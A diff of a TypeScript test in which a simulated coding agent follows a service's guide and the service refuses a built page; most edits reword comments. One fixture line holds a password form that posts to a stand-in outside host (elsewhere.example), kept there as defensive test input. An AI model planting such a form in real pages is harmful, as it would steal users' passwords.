@@ -11,7 +11,10 @@ import { startService, type TestService } from './service.ts';
 const page = '<!doctype html>\n<title>Moon Hopper</title>\n<h1>Moon Hopper</h1>\n';
 const harm = '<form action="https://elsewhere.example/take"><input type="password"></form>\n';
 
-/** Whether the terminal has what the guide's lines name; what it lacks else. */
+/**
+ * Returns false if the programs that the guide's lines call are installed, otherwise the name of a missing
+ * one.
+ */
 function lacking(): string | false {
   for (const name of ['bash', 'curl', 'tar', 'npx']) {
     try {
@@ -23,7 +26,10 @@ function lacking(): string | false {
   return false;
 }
 
-/** Somebody who knows nothing but the address of the service, in an empty folder, with the oldest Node there is. */
+/**
+ * The agent knows only the address of the service. It works in an empty folder, with the oldest supported
+ * Node.
+ */
 describe('a coding agent that has read nothing but what the service serves', { skip: lacking() }, () => {
   let service: TestService;
   let home: string;
@@ -46,13 +52,13 @@ describe('a coding agent that has read nothing but what the service serves', { s
     calls++;
     return (await service.get(`${service.baseUrl}${path}`)).text();
   }
-  /** The line of the guide that has these words: what an agent copies. */
+  /** Returns the line of the guide that contains these words, as an agent copies it. */
   function lineOf(guide: string, words: string): string {
     const found = guide.split('\n').find((line) => line.startsWith('    ') && line.includes(words));
     assert.ok(found, words);
     return found.trim();
   }
-  /** Runs a line in the folder, as a terminal does. @returns its one JSON document */
+  /** Runs a line in the folder, as a terminal does. Returns the exit code and the one JSON document. */
   function run(
     line: string,
     env: Record<string, string> = {},
@@ -127,7 +133,7 @@ describe('a coding agent that has read nothing but what the service serves', { s
     const found = refused.document.report?.findings.filter(({ severity }) => severity === 'refuse') ?? [];
     assert.ok(found.length > 0);
     for (const { path = '', message, fix } of found) {
-      // «Take the form out.» What is to be taken out stands in `message`; where, in `path`.
+      // `fix` says only "Remove the form." The form to remove is in `message`, and its file in `path`.
       assert.match(fix, /^Remove the form\./u);
       const element = /<(\w+)/u.exec(message)?.[1];
       const file = join(home, 'dist', path);
@@ -147,7 +153,7 @@ describe('a coding agent that has read nothing but what the service serves', { s
   });
 });
 
-/** What the guide says is in the document. */
+/** The part of the printed document that the guide describes. */
 interface Report {
   readonly status?: string;
   readonly outcome?: string;
